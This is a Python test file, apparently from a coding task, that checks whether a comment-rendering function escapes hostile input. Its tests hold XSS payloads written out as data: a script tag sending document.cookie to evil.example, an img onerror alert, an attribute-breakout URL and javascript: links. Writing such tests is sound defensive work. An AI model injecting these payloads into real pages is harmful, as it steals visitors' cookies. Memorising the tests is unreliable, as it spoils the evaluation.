from html.parser import HTMLParser

from solution import render_comments


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def _parse(html):
    parser = _Collector()
    parser.feed(html)
    parser.close()
    return parser


def _assert_inert(parsed):
    for tag, attrs in parsed.tags:
        assert tag in {"ul", "li", "span", "p", "a", "br"}, tag
        assert not any(name.startswith("on") for name in attrs), attrs
        if tag == "a":
            assert attrs.get("href", "").lower().startswith(("http://", "https://")), attrs
            assert set(attrs) == {"href", "rel"}, attrs


def test_script_in_body_is_rendered_as_text():
    body = "<script>fetch('//evil.example/?c=' + document.cookie)</script>"
    parsed = _parse(render_comments([{"author": "x", "body": body}]))
    _assert_inert(parsed)
    assert body in "".join(parsed.text)


def test_markup_in_author_is_rendered_as_text():
    author = '<img src=x onerror="alert(1)">'
    parsed = _parse(render_comments([{"author": author, "body": "hi", "website": "https://ok.example"}]))
    _assert_inert(parsed)
    assert author in "".join(parsed.text)


def test_website_cannot_break_out_of_href():
    site = 'https://ok.example/" onmouseover="alert(document.cookie)" x="'
    parsed = _parse(render_comments([{"author": "mallory", "body": "hi", "website": site}]))
    _assert_inert(parsed)
    links = [attrs for tag, attrs in parsed.tags if tag == "a"]
    assert links == [{"href": site, "rel": "nofollow"}]


def test_javascript_url_is_not_linked():
    parsed = _parse(render_comments([{"author": "m", "body": "hi", "website": "javascript:alert(1)"},
                                     {"author": "n", "body": "hi", "website": " javascript:alert(1)//http://"}]))
    _assert_inert(parsed)
